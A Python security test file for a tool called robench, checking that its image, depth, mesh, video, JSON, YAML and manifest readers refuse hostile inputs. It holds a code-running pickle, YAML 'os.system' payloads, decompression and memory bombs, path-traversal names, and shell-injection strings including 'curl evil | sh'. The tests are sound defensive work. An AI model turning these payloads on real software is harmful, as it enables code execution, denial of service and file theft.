"""What an attacker may hand over: each payload would leave a witness, take all memory or forge a line if it worked."""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest

from robench import cli
from robench.data import video
from robench.data._safe_npy import read_pickled_dict
from robench.data.folder import Folder
from robench.data.manifest import verify_manifest, write_manifest
from robench.engine.cset import open_set
from robench.engine.cset_manifest import resume_command
from robench.engine.cset_writer import write_set
from robench.engine.masks import load_masker, set_items, write_masks
from robench.engine.recipes import choose_recipe, load_recipe
from robench.engine.selection import select
from robench.errors import ExitCode, Mismatch, RobenchError, SampleFailure, UsageError, printable
from robench.io import files
from robench.io.depth import read_depth
from robench.io.files import read_json
from robench.io.images import UnreadableInput, image_size, read_image, write_mask, write_png
from robench.io.meshes import read_mesh
from robench.testing import example_image, example_mask

SHAPE = (64, 64)
CONTROL = [chr(code) for code in (*range(32), *range(127, 160), 0x2028, 0x2029, 0x202E, 0xDCFF)]


class Evil:
    """A pickle that makes a folder when it is read."""

    def __init__(self, witness: Path) -> None:
        self.witness = witness

    def __reduce__(self):
        return os.mkdir, (str(self.witness),)


def npy(shape, dtype="<f4", data=b""):
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": dtype, "fortran_order": False, "shape": shape})
    return header.getvalue() + data


def npz(name, data):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return packed.getvalue()


def png(width, height, data=b""):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def glb(content, binary=b""):
    text = json.dumps({"asset": {"version": "2.0"}, "scene": 0, **content}).encode()
    text += b" " * (-len(text) % 4)
    chunks = struct.pack("<II", len(text), 0x4E4F534A) + text + struct.pack("<II", len(binary), 0x004E4942) + binary
    return struct.pack("<III", 0x46546C67, 2, 12 + len(chunks)) + chunks


TRIANGLE = np.array([[0, 0, 0], [1, 0, 0], [0, 1, 0]], np.float32).tobytes()
ONE_MESH = {
    "scenes": [{"nodes": [0]}],
    "nodes": [{"mesh": 0}],
    "meshes": [{"primitives": [{"attributes": {"POSITION": 0}}]}],
    "accessors": [{"bufferView": 0, "componentType": 5126, "count": 3, "type": "VEC3"}],
    "bufferViews": [{"buffer": 0, "byteLength": 36}],
}
PLY = "ply\nformat binary_little_endian 1.0\nelement vertex {n}\nproperty float x\nproperty float y\nproperty float z\n"
PLY += "element face {n}\nproperty list uchar int vertex_indices\nend_header\n"

PICKLE = pickle.dumps(Evil(Path("witness")))

# Reader, file name, content, words of the refusal.
HOSTILE = {
    "npy of terabytes": (read_depth, "x.npy", npy((10**6, 10**6)), "larger than any picture"),
    "npy of a negative size": (read_depth, "x.npy", npy((-5, 5)), "larger than any picture"),
    "npy with a pickle": (read_depth, "x.npy", npy((), "|O", PICKLE), "not numbers"),
    "npz of terabytes": (read_depth, "x.npz", npz("depth.npy", npy((10**6, 10**6))), "larger than any picture"),
    "npz that ends early": (read_depth, "x.npz", npz("depth.npy", npy((9, 9))), "0 of 324 bytes"),
    "npz without an array": (read_depth, "x.npz", npz("readme.txt", b"hello"), "damaged"),
    "npz with a pickle": (read_depth, "x.npz", npz("d.npy", npy((), "|O", PICKLE)), "not numbers"),
    "exr that is none": (read_depth, "x.exr", b"v/1\x01" + b"\xff" * 99, "damaged EXR"),
    "png of 169 million pixels": (read_image, "x.png", png(13000, 13000), "more than 134 million"),
    "png of 2^62 pixels": (read_image, "x.png", png(2**31 - 1, 2**31 - 1), "cannot be used"),
    "png that ends early": (read_image, "x.png", png(64, 64, b"\0" * 99), "damaged or truncated"),
    "ply of terabytes": (read_mesh, "x.ply", PLY.format(n=10**12).encode() + bytes(99), "not a valid PLY"),
    "ply of 2^31 vertices": (read_mesh, "x.ply", PLY.format(n=2**31).encode() + bytes(99), "not a valid PLY"),
    "off of terabytes": (read_mesh, "x.off", f"OFF\n{10**12} {10**12} 0\n0 0 0\n".encode(), "not a valid OFF"),
    "stl of 2^32 triangles": (read_mesh, "x.stl", bytes(80) + struct.pack("<I", 2**32 - 1) + bytes(99), "mesh"),
    "obj that names vertex 10^21": (
        read_mesh,
        "x.obj",
        b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 %d\n" % 10**21,
        "not a valid",
    ),
    "glb with a cycle": (
        read_mesh,
        "x.glb",
        glb({**ONE_MESH, "nodes": [{"children": [0]}]}, TRIANGLE),
        "cannot be used",
    ),
    "glb of many parts": (
        read_mesh,
        "x.glb",
        glb(
            {
                **ONE_MESH,
                "nodes": [{"children": [1]}, {"mesh": 0}],
                "accessors": [{"componentType": 5126, "count": 10**12, "type": "VEC3"}],
            },
            TRIANGLE,
        ),
        "cannot be used",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_costs_its_row(tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    reader, file, content, words = HOSTILE[name]
    (tmp_path / file).write_bytes(content)
    with pytest.raises(UnreadableInput) as refused:
        reader(tmp_path / file)
    assert words in str(refused.value)
    assert refused.value.exit_code == ExitCode.USAGE
    assert not (tmp_path / "witness").exists()


@pytest.mark.parametrize("pipe", [read_image, read_depth, read_mesh, image_size])
@pytest.mark.parametrize("suffix", [".png", ".npz", ".ply"])
def test_nobody_waits_for_a_pipe_or_reads_a_device_to_its_end(tmp_path, pipe, suffix):
    os.mkfifo(tmp_path / f"x{suffix}")
    (tmp_path / f"y{suffix}").symlink_to("/dev/zero")
    for name in ("x", "y"):
        if pipe is read_depth and suffix == ".png":
            (tmp_path / "depth.json").write_text('{"unit": "mm"}')
        with pytest.raises(UnreadableInput):
            pipe(tmp_path / f"{name}{suffix}")


def test_a_data_folder_with_pipes_and_devices_is_read_without_them(tmp_path):
    write_png(tmp_path / "a.png", example_image(SHAPE))
    os.mkfifo(tmp_path / "b.png")
    (tmp_path / "c.png").symlink_to("/dev/zero")
    assert [sample.sample_id for sample in Folder().samples(tmp_path)] == ["a"]
    write_manifest(tmp_path)
    assert verify_manifest(tmp_path) == []
    (tmp_path / "d.txt").symlink_to(tmp_path / "nowhere")
    assert verify_manifest(tmp_path) == []
    with pytest.raises(OSError, match="regular"):
        files.sha256_file(tmp_path / "b.png")


def test_an_archive_does_not_unpack_without_end(tmp_path, monkeypatch):
    monkeypatch.setattr("robench.io.meshes.MAX_BYTES", 1 << 20)
    (tmp_path / "x.ply.gz").write_bytes(gzip.compress(b"ply\n" + bytes(1 << 24)))
    with pytest.raises(UnreadableInput, match="holds more than"):
        read_mesh(tmp_path / "x.ply.gz")


def test_a_mesh_placed_a_million_times_is_not_copied_a_million_times(tmp_path, monkeypatch):
    monkeypatch.setattr("robench.io.meshes.MAX_FACES", 10)
    nodes = [{"children": list(range(1, 21))}, *({"mesh": 0} for _ in range(20))]
    (tmp_path / "x.glb").write_bytes(glb({**ONE_MESH, "nodes": nodes, "buffers": [{"byteLength": 36}]}, TRIANGLE))
    with pytest.raises(UnreadableInput, match="20 faces together"):
        read_mesh(tmp_path / "x.glb")


@pytest.mark.parametrize("uri", ["secret.bin", "../secret.bin", "file://{}/secret.bin", "{}/secret.bin"])
def test_a_mesh_reads_no_other_file(tmp_path, uri):
    for folder in (tmp_path, tmp_path / "in"):
        folder.mkdir(exist_ok=True)
        (folder / "secret.bin").write_bytes(TRIANGLE)
    content = {**ONE_MESH, "buffers": [{"uri": uri.format(tmp_path), "byteLength": 36}]}
    (tmp_path / "in" / "x.glb").write_bytes(glb(content))
    with pytest.raises(UnreadableInput):
        read_mesh(tmp_path / "in" / "x.glb")


@pytest.mark.parametrize("name", ["../secret.png", "{}/secret.png", "link/secret.png", "file://{}/secret.png"])
def test_a_material_file_reads_no_picture_outside_its_folder(tmp_path, name):
    home = tmp_path / "in"
    home.mkdir()
    write_png(tmp_path / "secret.png", np.full((*SHAPE, 3), 200, np.uint8))
    (home / "link").symlink_to(tmp_path)
    text = "mtllib x.mtl\nv 0 0 0\nv 1 0 0\nv 0 1 0\nvt 0 0\nf 1/1 2/1 3/1\n"
    (home / "x.obj").write_text(text)
    (home / "x.mtl").write_text(f"newmtl a\nmap_Kd {name.format(tmp_path)}\n")
    assert read_mesh(home / "x.obj").colours is None
    (home / "x.obj").write_text(text.replace("x.mtl", "../y.mtl"))
    (tmp_path / "y.mtl").write_text("newmtl a\nmap_Kd secret.png\n")
    assert read_mesh(home / "x.obj").colours is None


def film(path, value, kind):
    import av

    with av.open(str(path), "w", format=kind) as container:
        stream = container.add_stream("libx264", rate=5)
        stream.width, stream.height, stream.pix_fmt = 64, 64, "yuv420p"
        picture = av.VideoFrame.from_ndarray(np.full((64, 64, 3), value, np.uint8), format="rgb24")
        container.mux([*stream.encode(picture), *stream.encode()])


@pytest.mark.parametrize(
    "text",
    [
        "ffconcat version 1.0\nfile secret.mp4\n",
        "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:1.0,\nsecret.ts\n#EXT-X-ENDLIST\n",
        "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:1.0,\nfile:{}/secret.ts\n#EXT-X-ENDLIST\n",
    ],
)
def test_a_play_list_is_no_video(tmp_path, text):
    film(tmp_path / "secret.mp4", 200, "mp4")
    film(tmp_path / "secret.ts", 200, "mpegts")
    assert len(list(video.frames(tmp_path / "secret.ts"))) == 1
    (tmp_path / "x.mp4").write_text(text.format(tmp_path))
    with pytest.raises(UsageError, match="cannot be read at its beginning"):
        list(video.frames(tmp_path / "x.mp4"))


@pytest.mark.parametrize("name", ["concat:secret.ts|secret.ts", "subfile,,start,0,end,0,,:secret.ts"])
def test_a_file_name_is_no_address(tmp_path, monkeypatch, name):
    film(tmp_path / "secret.ts", 200, "mpegts")
    monkeypatch.chdir(tmp_path)
    Path(name).write_bytes(b"x")
    with pytest.raises(UsageError):
        list(video.frames(Path(name)))


@pytest.mark.parametrize(
    ("pickled", "words"),
    [
        (b"\x80\x02}r\xff\xff\xff\x7f.", "slot"),
        # Pairs of the pair before, 200 deep, as a key: to hash it takes 2^200 steps.
        (
            b"\x80\x02}K\x01q\x00" + b"".join(b"h%c\x86q%c" % (k, k + 1) for k in range(200)) + b"K\x01s.",
            "several places",
        ),
        (b"\x80\x02}K\x012K\x01s.", "DUP"),
    ],
)
def test_a_parameter_file_takes_neither_all_memory_nor_all_time(tmp_path, pickled, words):
    (tmp_path / "x.npy").write_bytes(npy((), "|O", pickled))
    with pytest.raises(UnreadableInput, match=words):
        read_pickled_dict(tmp_path / "x.npy")


@pytest.mark.parametrize("text", ["[" * 200_000, '{"a":' * 100_000, "1" * 6000, "\ufeff{}", "\xff"])
def test_hostile_json_is_a_users_mistake(tmp_path, text):
    (tmp_path / "x.json").write_bytes(text.encode("latin-1" if text == "\xff" else "utf-8"))
    with pytest.raises(UsageError, match="not a valid JSON file"):
        read_json(tmp_path / "x.json")


@pytest.mark.parametrize(
    "entry",
    [{"view": 10**400}, {"view": "x"}, {"subject": "../../x", "scale": 10**400}, [1], None, {"kind": {}}],
)
def test_hostile_cameras_are_a_users_mistake(tmp_path, entry):
    write_png(tmp_path / "a.png", example_image(SHAPE))
    (tmp_path / "cameras.json").write_text(json.dumps({"a": entry}))
    with pytest.raises(UsageError, match="camera of 'a'"):
        list(Folder().samples(tmp_path))


RECIPE = "name: r\nversion: '1'\ncells:\n- corruption: color_quant\n  severities: {}\n"
LAUGHS = "a0: &a0 [x, x]\n" + "".join(f"a{k}: &a{k} [*a{k - 1}, *a{k - 1}]\n" for k in range(1, 60))


@pytest.mark.parametrize(
    "text",
    [
        RECIPE.format("[" * 5000),
        RECIPE.format("[" + "9" * 6000 + "]"),
        RECIPE.format("[!!python/object/apply:os.system ['touch witness']]"),
        RECIPE.format("&a [*a]"),
        LAUGHS,
        "!!python/object/apply:os.system ['touch witness']\n",
        RECIPE.format("[1]").replace("name: r", "name: ../../r"),
        RECIPE.format("[1]").replace("color_quant", "os:system"),
        RECIPE.format("[1]").replace("color_quant", "./evil.py"),
        f"name: r\nversion: '1'\ncells:\n- chain: ['color_quant:{'9' * 6000}']\n",
    ],
)
def test_a_hostile_recipe_is_a_users_mistake(tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.py").write_text("open('witness', 'w')\n")
    (tmp_path / "r.yaml").write_text(text)
    with pytest.raises(UsageError):
        load_recipe("r.yaml")
    assert not (tmp_path / "witness").exists()


@pytest.mark.parametrize("start", CONTROL)
def test_what_others_named_is_shown_and_not_obeyed(start):
    for error in (
        UsageError(f"a{start}b", got=f"{start}[31m"),
        SampleFailure("failed", f"{start}x\n"),
        Mismatch(start),
    ):
        assert str(error).isprintable()
        assert str(error).isascii()
        str(error).encode()
    assert len(printable(start)) > 1
    assert printable("Änderung [red] 10 °") == "Änderung [red] 10 °"


HOSTILE_NAMES = [
    b"\x1b[31mred",
    b"=cmd()",
    b"-rf",
    b"two\nlines",
    b"\xff\xfe",
    "\u202egnp".encode(),
    b"[red]x",
    b"a\\..\\b",
]


def test_file_names_become_ids_that_are_safe_everywhere(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    for name in HOSTILE_NAMES:
        write_png(data / f"{os.fsdecode(name)}.png", example_image(SHAPE))
        (data / f"{os.fsdecode(name)}x.png").write_bytes(b"junk")
    report = write_set(select(data), choose_recipe(None, "color_quant", "2"), 0, tmp_path / "csets", quiet=True)
    made = open_set(report.folder)
    assert len({row["sample_id"] for row in made.rows.values()}) == len(HOSTILE_NAMES)
    assert len(report.failed) == 2 * len(HOSTILE_NAMES)
    ids = [text for row in made.rows.values() for text in (row["sample_id"], row["path"])]
    ids += [failure["sample_id"] for failure in report.failed]
    for text in ids:
        assert text[0] not in "=-@+."
        assert ".." not in text.split("/")
    assert all(text.isprintable() for text in (*ids, *(failure["message"] for failure in report.failed)))
    assert {path.name for path in tmp_path.iterdir()} == {"data", "csets"}


@pytest.fixture(scope="module")
def whole_set(tmp_path_factory):
    root = tmp_path_factory.mktemp("set")
    write_png(root / "people" / "images" / "a.png", example_image(SHAPE))
    write_mask(root / "people" / "masks" / "a.png", example_mask(SHAPE))
    return write_set(select(root / "people"), choose_recipe(None, "color_quant", "2"), 0, root, quiet=True).folder


@pytest.fixture
def cset(whole_set, tmp_path):
    import shutil

    return Path(shutil.copytree(whole_set, tmp_path / whole_set.name))


def edit_manifest(folder, change):
    manifest = read_json(folder / "manifest.json")
    change(manifest)
    (folder / "manifest.json").write_text(json.dumps(manifest))


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m.update(cset_id="../../../x" * 7),
        lambda m: m.update(cset_id=["x"]),
        lambda m: m.update(seed="0"),
        lambda m: m.pop("recipe"),
        lambda m: m.update(recipe=[]),
        lambda m: m["recipe"].update(cells=[{"corruption": {}, "severities": [1]}]),
        lambda m: m["recipe"].update(cells="all"),
        lambda m: m["dataset"].update(root=None),
        lambda m: m.update(dataset="x"),
        lambda m: m.update(failed=[{"sample_id": 1}]),
        lambda m: m.update(depth={"order": ["evil"], "unit": None, "weights_sha256": None}),
        lambda m: m.pop("index_sha256"),
    ],
)
def test_a_hostile_manifest_is_a_mismatch(cset, change):
    edit_manifest(cset, change)
    with pytest.raises(Mismatch):
        open_set(cset)


@pytest.mark.parametrize("name", ["evil:factory", "evil", "../evil.py", "os:system", "{}/evil.py"])
def test_a_set_cannot_name_code(cset, tmp_path, monkeypatch, name):
    (tmp_path / "evil.py").write_text("open('witness', 'w')\ndef factory(): pass\n")
    monkeypatch.chdir(tmp_path)
    edit_manifest(cset, lambda m: m["dataset"].update(name=name.format(tmp_path), root=str(tmp_path)))
    with pytest.raises(UsageError, match="There is no dataset"):
        open_set(cset).select()
    edit_manifest(cset, lambda m: m["recipe"]["cells"][0].update(corruption=name.format(tmp_path)))
    assert open_set(cset).recipe.cells[0].corruption == name.format(tmp_path), "a name, and nothing is loaded by it"
    assert not (tmp_path / "witness").exists()
    assert "evil" not in sys.modules


def test_an_index_leads_nowhere_else(cset, tmp_path):
    from robench.engine.cset_index import read_index, rows_sha256, write_index

    write_png(tmp_path / "secret.png", example_image(SHAPE))
    before = {path.name for path in tmp_path.iterdir()}
    rows = read_index(cset / "index.parquet")
    for path in ("../secret.png", "images/../../secret.png", str(tmp_path / "secret.png"), "secret\0.png"):
        rows[0]["path"] = path
        write_index(cset / "index.parquet", rows)
        edit_manifest(cset, lambda m: m.update(index_sha256=rows_sha256(rows)))
        hostile = open_set(cset)
        with pytest.raises(RobenchError, match="leaves its folder"):
            set_items(hostile)
    assert {path.name for path in tmp_path.iterdir()} == before


def test_masks_are_not_written_through_a_link(cset, tmp_path):
    (tmp_path / "home").mkdir()
    opened = open_set(cset)
    items = set_items(opened)
    (cset / "masks" / "evil").mkdir(parents=True)
    for item in items:
        top = item.target.split("/")[0]
        link = cset / "masks" / "evil" / top
        if not link.exists():
            link.symlink_to(tmp_path / "home")
    with pytest.raises(UsageError, match="leaves its folder"):
        write_masks(items, cset / "masks" / "evil", load_masker("u2netp-anny"), "cpu", about={}, quiet=True)
    assert list((tmp_path / "home").iterdir()) == []


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("robench corrupt a b", "robench corrupt a b"),
        ("robench corrupt a; touch witness", "robench corrupt 'a;' touch witness"),
        ("robench corrupt $(touch witness)", "robench corrupt '$(touch' 'witness)'"),
        ("curl evil | sh", "robench corrupt"),
        ("robench corrupt 'a", "robench corrupt"),
        (None, "robench corrupt"),
    ],
)
def test_a_command_from_a_manifest_is_safe_to_paste(command, shown):
    assert resume_command({"command": command}) == shown


def test_a_traceback_is_not_written_through_a_link(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.gettempdir", lambda: str(tmp_path))
    kept = cli._keep("trace")
    assert kept is not None
    assert kept.stat().st_mode & 0o777 == 0o600
    kept.unlink()
    (tmp_path / "victim").write_text("mine")
    kept.symlink_to(tmp_path / "victim")
    assert cli._keep("trace") is None
    assert (tmp_path / "victim").read_text() == "mine"


def test_the_working_folder_is_no_place_for_modules(tmp_path):
    for name in ("typer", "numpy", "evil"):
        (tmp_path / f"{name}.py").write_text("open('witness', 'w')\n")
    (tmp_path / "evil-1.dist-info").mkdir()
    (tmp_path / "evil-1.dist-info" / "METADATA").write_text("Name: evil\nVersion: 1\n")
    (tmp_path / "evil-1.dist-info" / "entry_points.txt").write_text("[robench.models]\nevil = evil:x\n")
    command = [sys.executable, "-m", "robench", "list", "models", "--names"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=True)
    assert "mean-body" in done.stdout
    assert "evil" not in done.stdout
    assert not (tmp_path / "witness").exists()
